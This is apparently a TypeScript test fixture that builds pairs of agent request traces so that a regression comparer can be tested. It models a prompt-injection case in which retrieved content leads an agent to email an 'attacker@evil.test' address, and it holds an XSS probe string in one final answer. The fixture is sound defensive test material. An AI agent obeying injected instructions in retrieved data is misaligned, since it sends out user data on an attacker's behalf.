import type {RequestTrace} from '../../src/trace/schema.js'
import {baseTrace, decision, guardrail, recordedRun, toolCall, trace} from '../factories/index.js'
import {MemoryStore} from './memory-store.js'

const lookup = (over = {}) => toolCall('lookup_order', {order_id: 'O1'}, over)
const refund = (over = {}) => toolCall('issue_refund', {order_id: 'O1', amount: 20}, {risk: 'write_high', idempotency_key: 'refund-O1', ...over})
const email = (over = {}) => toolCall('send_email', {to: 'attacker@evil.test'}, {risk: 'write_low', ...over})
const injected = [guardrail('pre_model', 'injection_in_retrieved', false, 'high')]

/** A small run against recorded traffic: one request of each interesting kind. */
export function smallRun(): {store: MemoryStore; runId: string} {
  const store = new MemoryStore()
  const run = store.createRun(recordedRun())
  const pair = (id: string, line: number, b: Partial<RequestTrace>, c: Partial<RequestTrace>): RequestTrace[] => [
    baseTrace({request_id: id, line, ...b}),
    trace({request_id: id, line, ...c}),
  ]
  store.writeTraces(run.id, [
    // same
    ...pair('r-same', 1, {tool_calls: [lookup()], latency_ms: 100}, {tool_calls: [lookup()], latency_ms: 100}),
    // benign: wording only
    ...pair('r-benign', 2, {latency_ms: 200}, {final_answer: 'Shipped, order ORD-1.', latency_ms: 200}),
    // regression: refund newly denied
    ...pair(
      'r-deny',
      3,
      {tool_calls: [lookup(), refund()], policy_decisions: [decision('mid_run', 'issue_refund', 'allow', 'POLICY_DEFAULT')], latency_ms: 300},
      {
        status: 'refused',
        tool_calls: [lookup({outcome: 'timeout', result: null}), refund({executed: false, outcome: 'denied', result: null})],
        policy_decisions: [decision('mid_run', 'issue_refund', 'deny', 'REFUND_OVER_LIMIT')],
        final_answer: '<script>alert(1)</script> cannot refund',
        latency_ms: 600,
      },
    ),
    // improvement: injected email executed by production, denied by the candidate
    ...pair(
      'r-inject-ok',
      4,
      {tool_calls: [email()], policy_decisions: [decision('mid_run', 'send_email', 'allow', 'POLICY_DEFAULT')], latency_ms: 400},
      {
        guardrails: injected,
        tool_calls: [email({executed: false, outcome: 'denied', result: null})],
        policy_decisions: [decision('mid_run', 'send_email', 'deny', 'UNTRUSTED_INSTRUCTION')],
        latency_ms: 400,
      },
    ),
    // regression: the candidate executes the injected email production never sent
    ...pair('r-inject-bad', 5, {latency_ms: 500}, {guardrails: injected, tool_calls: [email()], latency_ms: 500}),
    // regression: hits max_steps
    ...pair('r-steps', 6, {latency_ms: 600}, {status: 'budget_exceeded', budget_hits: ['max_steps'], latency_ms: 1200}),
    // behaviour change with an idempotency violation: the same key executed twice
    ...pair(
      'r-idem',
      7,
      {tool_calls: [refund()], latency_ms: 700},
      {tool_calls: [refund({outcome: 'partial_write', result: null}), refund({attempt: 2})], latency_ms: 700},
    ),
  ])
  // a request the candidate has not reached yet
  store.writeTraces(run.id, [baseTrace({request_id: 'r-missing', line: 8})])
  return {store, runId: run.id}
}

